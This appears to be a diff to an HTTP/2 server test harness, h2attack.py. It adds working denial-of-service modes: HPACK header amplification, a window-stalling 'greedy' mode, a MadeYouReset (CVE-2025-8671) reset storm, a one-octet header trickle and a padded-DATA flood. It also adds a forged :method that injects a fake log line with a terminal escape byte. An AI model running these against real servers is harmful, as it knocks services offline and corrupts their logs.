@@ -6,11 +6,29 @@ plus payload, so that each attack is exactly what it says and no client
 library smooths it over; only the standard library is used. Every mode
 prints JSON lines on stdout.
 
-    h2attack.py hold  HOST PORT tls|h2c PATH CONNS STREAMS SECS
+    h2attack.py hold  HOST PORT tls|h2c PATH CONNS STREAMS SECS [full]
         Each connection sets SETTINGS_INITIAL_WINDOW_SIZE = 0 (the server may
         send no DATA), opens STREAMS requests for PATH, never opens a window,
         and sends a PING every second so that it is never idle. Reports per
         connection when it got GOAWAY or was closed, and refused streams.
+        With `full`, the first request adds a 4000-octet user-agent to the
+        HPACK table and every request names it three times: 12 KiB of head
+        per stream for 3 octets on the wire.
+    greedy HOST PORT tls|h2c PATH CONNS STREAMS SECS
+        Each connection opens every window as wide as HTTP/2 allows, asks for
+        PATH on STREAMS streams in one write, and then reads nothing for SECS:
+        whatever the server answers piles up on its side.
+    reset-storm HOST PORT tls|h2c STREAMS
+        In one write, STREAMS x (HEADERS for /missing-N with END_STREAM, then
+        WINDOW_UPDATE 0 on its stream), which the server must answer with a
+        reset (CVE-2025-8671, "MadeYouReset"). Reports resets and GOAWAY.
+    trickle HOST PORT tls|h2c INTERVAL SECS
+        After the handshake, a HEADERS frame one octet every INTERVAL seconds
+        (so the frame never ends); reports when the server closed or sent
+        GOAWAY, at most SECS.
+    forged HOST PORT tls|h2c
+        One GET whose :method is `GET / HTTP/1.1" 200 0 "-" "x` with an escape
+        byte; reports the stream's fate (a :status, or reset).
     flood HOST PORT tls|h2c KIND MAX_FRAMES
         KIND: priority, settings, ping, empty-data, window-update. Sends up to
         MAX_FRAMES such frames in batches, reading between batches, and
@@ -112,7 +130,14 @@ def get_headers(path, tls):
     return block
 
 
-def hold(host, port, mode, path, conns, streams, secs):
+# HPACK: user-agent (static index 58) with incremental indexing, a value of
+# 4000 octets (a 7-bit-prefix integer: 127, then 3873 in two octets); then
+# the new entry, index 62, three times.
+BIG_UA = bytes([0x40 | 58, 0x7F, 0x80 | (3873 % 128), 3873 // 128]) + b"u" * 4000
+BIG_UA_REF = bytes([0x80 | 62]) * 3
+
+
+def hold(host, port, mode, path, conns, streams, secs, full=False):
     t0 = time.monotonic()
     results = [None] * conns
     start = threading.Barrier(conns + 1)
@@ -125,7 +150,10 @@ def hold(host, port, mode, path, conns, streams, secs):
             # Initial stream window 0: no DATA may be sent on any stream.
             out = PREFACE + settings([(4, 0), (3, 1000)])
             for k in range(streams):
-                out += frame(HEADERS, 0x5, 2 * k + 1, get_headers(path, mode == "tls"))
+                block = get_headers(path, mode == "tls")
+                if full:
+                    block += (BIG_UA + BIG_UA_REF[:2]) if k == 0 else BIG_UA_REF
+                out += frame(HEADERS, 0x5, 2 * k + 1, block)
                 r["opened"] += 1
             s.sendall(out)
             s.settimeout(5)
@@ -187,6 +215,9 @@ def flood_frame(kind, i):
         return frame(PING, 0, 0, struct.pack(">Q", i))
     if kind == "empty-data":
         return frame(DATA, 0, 1)
+    if kind == "padded-data":
+        # Padding only: 255 octets of it and no body.
+        return frame(DATA, 0x8, 1, b"\xff" + b"\0" * 255)
     if kind == "window-update":
         return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
     raise SystemExit("unknown flood kind " + kind)
@@ -195,7 +226,7 @@ def flood_frame(kind, i):
 def flood(host, port, mode, kind, max_frames):
     s = connect(host, port, mode)
     out = PREFACE + settings([(4, 0)]) + frame(SETTINGS, 1, 0)
-    if kind == "empty-data":
+    if kind in ("empty-data", "padded-data"):
         # A request whose stream stays open (no END_STREAM) and whose
         # response cannot be sent (window 0): the stream to send DATA on.
         out += frame(HEADERS, 0x4, 1, get_headers("/small.txt", mode == "tls"))
@@ -217,6 +248,62 @@ def flood(host, port, mode, kind, max_frames):
         rd.pump(0.2)
     print(json.dumps({"kind": kind, "sent": at, "goaway": rd.goaway,
                       "closed": rd.closed, "server_frames": rd.frames}), flush=True)
+
+
+def greedy(host, port, mode, path, conns, streams, secs):
+    socks = []
+    for _ in range(conns):
+        s = connect(host, port, mode)
+        out = PREFACE + settings([(4, (1 << 31) - 1)]) + frame(SETTINGS, 1, 0)
+        out += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535))
+        for k in range(streams):
+            out += frame(HEADERS, 0x5, 2 * k + 1, get_headers(path, mode == "tls"))
+        s.sendall(out)
+        socks.append(s)
+    print(json.dumps({"event": "all_sent", "conns": len(socks)}), flush=True)
+    time.sleep(secs)
+    for s in socks:
+        s.close()
+    print(json.dumps({"event": "done"}), flush=True)
+
+
+def reset_storm(host, port, mode, streams):
+    s = connect(host, port, mode)
+    out = PREFACE + settings([]) + frame(SETTINGS, 1, 0)
+    for k in range(streams):
+        sid = 2 * k + 1
+        out += frame(HEADERS, 0x5, sid, get_headers("/missing-%d" % k, mode == "tls"))
+        out += frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0))
+    s.sendall(out)
+    rd = Reader(s)
+    end = time.monotonic() + 3
+    while not rd.closed and time.monotonic() < end:
+        rd.pump(0.2)
+    print(json.dumps({"resets": sum(rd.resets.values()), "goaway": rd.goaway,
+                      "closed": rd.closed}), flush=True)
+
+
+def trickle(host, port, mode, interval, secs):
+    s = connect(host, port, mode)
+    s.sendall(PREFACE + settings([]) + frame(SETTINGS, 1, 0))
+    rd = Reader(s)
+    rd.pump(0.5)
+    t0 = time.monotonic()
+    block = get_headers("/small.txt", mode == "tls")
+    pending = frame(HEADERS, 0x5, 1, block + b"\0" * 4000)
+    sent = 0
+    while time.monotonic() - t0 < secs and rd.goaway is None and not rd.closed:
+        try:
+            s.sendall(pending[sent:sent + 1])
+        except OSError:
+            rd.closed = True
+            break
+        sent += 1
+        end = time.monotonic() + interval
+        while time.monotonic() < end and rd.goaway is None and not rd.closed:
+            rd.pump(max(0.0, end - time.monotonic()))
+    print(json.dumps({"sent": sent, "goaway": rd.goaway, "closed": rd.closed,
+                      "at": time.monotonic() - t0}), flush=True)
 
 
 def bad(host, port, mode, case):
@@ -246,10 +333,16 @@ def bad(host, port, mode, case):
 STATIC_STATUS = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}
 
 
-def status(host, port, mode, path, authority):
+def status(host, port, mode, path, authority, method=None):
     s = connect(host, port, mode)
     p, a = path.encode(), authority.encode()
-    block = bytes([0x82, 0x87 if mode == "tls" else 0x86, 0x04, len(p)]) + p
+    if method is None:
+        first = bytes([0x82])
+    else:
+        # :method (static name index 2) as a literal, not indexed.
+        m = method.encode("latin-1")
+        first = bytes([0x02, len(m)]) + m
+    block = first + bytes([0x87 if mode == "tls" else 0x86, 0x04, len(p)]) + p
     block += bytes([0x01, len(a)]) + a
     s.sendall(PREFACE + settings([]) + frame(SETTINGS, 1, 0) + frame(HEADERS, 0x5, 1, block))
     buf, got, end = b"", None, time.monotonic() + 5
@@ -285,7 +378,17 @@ def status(host, port, mode, path, authority):
 def main(argv):
     cmd, host, port, mode = argv[1], argv[2], int(argv[3]), argv[4]
     if cmd == "hold":
-        hold(host, port, mode, argv[5], int(argv[6]), int(argv[7]), float(argv[8]))
+        hold(host, port, mode, argv[5], int(argv[6]), int(argv[7]), float(argv[8]),
+             len(argv) > 9 and argv[9] == "full")
+    elif cmd == "greedy":
+        greedy(host, port, mode, argv[5], int(argv[6]), int(argv[7]), float(argv[8]))
+    elif cmd == "reset-storm":
+        reset_storm(host, port, mode, int(argv[5]))
+    elif cmd == "trickle":
+        trickle(host, port, mode, float(argv[5]), float(argv[6]))
+    elif cmd == "forged":
+        status(host, port, mode, "/small.txt", "localhost",
+               'GET / HTTP/1.1" 200 0 "-" "x\x1b[2J')
     elif cmd == "flood":
         flood(host, port, mode, argv[5], int(argv[6]))
     elif cmd == "bad":
